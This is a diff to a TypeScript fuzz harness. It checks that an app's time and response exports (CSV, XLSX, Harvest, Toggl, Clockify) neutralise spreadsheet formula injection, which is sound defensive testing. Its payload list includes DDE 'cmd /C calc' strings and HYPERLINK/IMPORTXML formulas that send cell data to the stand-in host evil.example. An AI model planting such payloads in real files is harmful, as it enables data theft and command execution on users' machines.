@@ -31,20 +31,59 @@ export function isLiveFormula(text: string): boolean {
 const PAYLOADS = [
   'HYPERLINK("http://evil.example/?"&A1,"Open")',
   "cmd|' /C calc'!A0",
-  'SUM(1+1)*cmd|\' /C calc\'!A0',
+  "SUM(1+1)*cmd|' /C calc'!A0",
   'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
   '1+1',
   '2+3 cmd|calc',
   'DDE("cmd";"/C calc";"!A0")',
   'A1',
 ];
-const PREFIXES = [...TRIGGERS, '', ' ', '"', "'", '\n', "'=", '==', '\u200B=', '\u202E=', '""=', ',='];
-const CHARS = ['a', 'Z', ' ', '"', "'", ',', ';', '\n', '\r\n', '\t', '=', '+', '-', '@', '|', 'é', 'Ж', '\uFF1D', '\u2212', '\u0430', '😀', '\\'];
+const PREFIXES = [
+  ...TRIGGERS,
+  '',
+  ' ',
+  '"',
+  "'",
+  '\n',
+  "'=",
+  '==',
+  '\u200B=',
+  '\u202E=',
+  '""=',
+  ',=',
+];
+const CHARS = [
+  'a',
+  'Z',
+  ' ',
+  '"',
+  "'",
+  ',',
+  ';',
+  '\n',
+  '\r\n',
+  '\t',
+  '=',
+  '+',
+  '-',
+  '@',
+  '|',
+  'é',
+  'Ж',
+  '\uFF1D',
+  '\u2212',
+  '\u0430',
+  '😀',
+  '\\',
+];
 /** One fuzzed text: a formula-like start, then a payload or arbitrary text from hostile characters. */
 export const fuzzText = fc
   .tuple(
     fc.constantFrom(...PREFIXES),
-    fc.oneof(fc.constantFrom(...PAYLOADS), fc.array(fc.constantFrom(...CHARS), { minLength: 1, maxLength: 24 }).map((a) => a.join(''))),
+    fc.oneof(
+      fc.constantFrom(...PAYLOADS),
+      fc.array(fc.constantFrom(...CHARS), { minLength: 1, maxLength: 24 }).map((a) => a.join('')),
+    ),
   )
   .map(([p, b]) => p + b);
 
@@ -65,14 +104,22 @@ export async function xlsxCells(file: string): Promise<Array<{ text: string; for
   wb.eachSheet((ws) =>
     ws.eachRow({ includeEmpty: false }, (row) =>
       row.eachCell({ includeEmpty: false }, (cell) => {
-        out.push({ text: cell.text, formula: cell.type === ExcelJS.ValueType.Formula || cell.formula != null });
+        out.push({
+          text: cell.text,
+          formula: cell.type === ExcelJS.ValueType.Formula || cell.formula != null,
+        });
       }),
     ),
   );
   return out;
 }
 
-export async function exportHarness(o: { entries: number; responses: number; log: (m: string) => void; seed?: number }) {
+export async function exportHarness(o: {
+  entries: number;
+  responses: number;
+  log: (m: string) => void;
+  seed?: number;
+}) {
   const dir = mkdtempSync(join(tmpdir(), 'steward-exports-'));
   const core = await createCore({
     dataDir: dir,
@@ -86,7 +133,10 @@ export async function exportHarness(o: { entries: number; responses: number; log
     if (!r.ok) throw new Error(`export harness: ${method}: ${JSON.stringify(r.error)}`);
     return r.value as T;
   };
-  const texts = fc.sample(fuzzText, { numRuns: o.entries * 3 + o.responses * 4 + 40, seed: o.seed ?? 20261126 });
+  const texts = fc.sample(fuzzText, {
+    numRuns: o.entries * 3 + o.responses * 4 + 40,
+    seed: o.seed ?? 20261126,
+  });
   let next = 0;
   let fuzzed = 0;
   const take = (max = 2000) => {
@@ -101,7 +151,10 @@ export async function exportHarness(o: { entries: number; responses: number; log
     const clients: Array<{ id: number; source: number; convs: number[] }> = [];
     const now = Date.now();
     for (let c = 0; c < CLIENTS; c++) {
-      const client = await call<{ id: number }>('clients.create', { name: `${take(90)}${c}`, timezone: 'Europe/Copenhagen' });
+      const client = await call<{ id: number }>('clients.create', {
+        name: `${take(90)}${c}`,
+        timezone: 'Europe/Copenhagen',
+      });
       await call('time.setContract', {
         clientId: client.id,
         contract: {
@@ -112,7 +165,14 @@ export async function exportHarness(o: { entries: number; responses: number; log
         },
       });
       const source = core.internals.repos.sources.insert(
-        { clientId: client.id, platform: 'discourse', name: `${take(90)}${c}`, baseUrl: 'http://127.0.0.1:9', config: {}, secretRef: null },
+        {
+          clientId: client.id,
+          platform: 'discourse',
+          name: `${take(90)}${c}`,
+          baseUrl: 'http://127.0.0.1:9',
+          config: {},
+          secretRef: null,
+        },
         now,
       );
       clients.push({ id: client.id, source: source.id, convs: [] });
@@ -125,15 +185,37 @@ export async function exportHarness(o: { entries: number; responses: number; log
         const at = Date.parse('2026-10-01T08:00:00Z') + k * 60_000;
         const name = take(100);
         items.push({
-          conversation: { externalId: `t${ci}-${k}`, title: take(300), url: null, createdAt: at, kind: 'topic' },
-          member: { externalId: `m${ci}-${k}`, username: name, displayName: name, avatarUrl: null, isStaff: false },
-          message: { externalId: `p${ci}-${k}`, bodyHtml: '<p>x</p>', bodyText: take(500), createdAt: at, editedAt: null, version: 1, deleted: false },
+          conversation: {
+            externalId: `t${ci}-${k}`,
+            title: take(300),
+            url: null,
+            createdAt: at,
+            kind: 'topic',
+          },
+          member: {
+            externalId: `m${ci}-${k}`,
+            username: name,
+            displayName: name,
+            avatarUrl: null,
+            isStaff: false,
+          },
+          message: {
+            externalId: `p${ci}-${k}`,
+            bodyHtml: '<p>x</p>',
+            bodyText: take(500),
+            createdAt: at,
+            editedAt: null,
+            version: 1,
+            deleted: false,
+          },
         });
       }
       core.internals.ingester.ingest({ id: c.source, clientId: c.id }, items, [], now);
     }
     // The harness reads the ids back directly (a read of its own, like the crash part's checks).
-    const convIds = core.internals.db.prepare('SELECT id, client_id FROM conversations').all() as Array<{ id: number; client_id: number }>;
+    const convIds = core.internals.db
+      .prepare('SELECT id, client_id FROM conversations')
+      .all() as Array<{ id: number; client_id: number }>;
     for (const c of clients) c.convs = convIds.filter((x) => x.client_id === c.id).map((x) => x.id);
     // Time entries: half on a conversation (its title is exported), half with a fuzzed note.
     for (let i = 0; i < o.entries; i++) {
@@ -151,7 +233,9 @@ export async function exportHarness(o: { entries: number; responses: number; log
     }
     // Canned responses with fuzzed title, folder, tags and body (agency library and one client's).
     for (let i = 0; i < o.responses; i++) {
-      const tag = take(40).replace(/[|\p{Cc}]/gu, '').trim();
+      const tag = take(40)
+        .replace(/[|\p{Cc}]/gu, '')
+        .trim();
       await call('responses.save', {
         response: {
           clientId: i % 2 ? clients[0]!.id : null,
@@ -174,10 +258,18 @@ export async function exportHarness(o: { entries: number; responses: number; log
       }
     };
     for (const format of ['harvest', 'toggl', 'clockify', 'csv', 'xlsx'] as const) {
-      const r = await call<{ path: string; rows: number }>('time.export', { clientId: null, month: '2026-10', format, exportId: `fz-${format}` });
+      const r = await call<{ path: string; rows: number }>('time.export', {
+        clientId: null,
+        month: '2026-10',
+        format,
+        exportId: `fz-${format}`,
+      });
       figures.export_files++;
-      if (format === 'xlsx') for (const cell of await xlsxCells(r.path)) check(format, cell.text, cell.formula);
-      else for (const cell of csvCells(readFileSync(r.path, 'utf8'))) check(format, cell, isLiveFormula(cell));
+      if (format === 'xlsx')
+        for (const cell of await xlsxCells(r.path)) check(format, cell.text, cell.formula);
+      else
+        for (const cell of csvCells(readFileSync(r.path, 'utf8')))
+          check(format, cell, isLiveFormula(cell));
       o.log(`exports: time ${format}: ${r.rows} rows`);
     }
     for (const clientId of [null, clients[0]!.id]) {
@@ -186,7 +278,9 @@ export async function exportHarness(o: { entries: number; responses: number; log
       for (const cell of csvCells(f.text)) check('responses csv', cell, isLiveFormula(cell));
     }
     for (const e of examples) o.log(`exports: live formula in ${e}`);
-    o.log(`exports: ${figures.export_files} files, ${figures.csv_cells} cells, ${figures.live_formulas} live formulas`);
+    o.log(
+      `exports: ${figures.export_files} files, ${figures.csv_cells} cells, ${figures.live_formulas} live formulas`,
+    );
     return figures;
   } finally {
     await core.stop();
